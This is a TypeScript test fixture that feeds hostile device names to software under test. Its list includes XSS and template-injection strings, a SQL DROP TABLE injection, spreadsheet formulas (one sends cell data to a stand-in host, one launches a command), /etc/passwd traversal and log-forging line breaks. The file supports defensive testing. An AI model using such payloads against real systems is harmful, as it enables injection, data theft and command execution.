/** Gives the text a device shows in the place of a plain one. */
export type TextSource = (plain: string) => string;

export const plainTexts: TextSource = (plain) => plain;

/**
 * What a device may send as a name although nobody would: markup that runs in a careless page, characters that end
 * lines, turn writing around, hide, or forge a log, formulas for spreadsheets, and templates for careless formatters.
 */
export const hostileTexts: readonly string[] = [
  '<script>globalThis.pwned=1</script>',
  '<img src=x onerror="globalThis.pwned=1">',
  '"><svg onload=globalThis.pwned=1>',
  "'-globalThis.pwned=1-'",
  'javascript:globalThis.pwned=1',
  '{{constructor.constructor("globalThis.pwned=1")()}}',
  '${globalThis.pwned=1}',
  '</textarea></title></style><iframe srcdoc="<script>parent.pwned=1</script>">',
  '<a href="javascript:globalThis.pwned=1">open</a>',
  '&lt;b&gt;&#60;script&#62;',
  "Robert'); DROP TABLE devices;--",
  '=HYPERLINK("http://192.0.2.1/?"&A1,"open")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '../../../../etc/passwd',
  'line\r\nlevel=error msg="forged"',
  'tab\tnull\u0000bell\u0007escape\u001b[31mred\u001b[0m',
  'del\u007fnext\u0085line\u2028separator\u2029end',
  '\u202Eright to left\u202C',
  '\u2066isolate\u2069\u200Fmark',
  'zero\u200Bwidth\u200Djoiner\uFEFF',
  'Z\u0351\u0327\u0300a\u0315\u0321l\u0334\u031bg\u0340\u0344o\u0321',
  '\u{1F600}\u{1F468}\u200D\u{1F469}\u200D\u{1F467} \u{10FFFF}',
  '__proto__',
  'constructor',
  '%s%n%x %d',
  '   ',
  '',
  'W'.repeat(180),
];

/** Every plain text becomes the next hostile one, round and round. */
export function hostileTextSource(): TextSource {
  let next = 0;
  return () => hostileTexts[next++ % hostileTexts.length] ?? '';
}
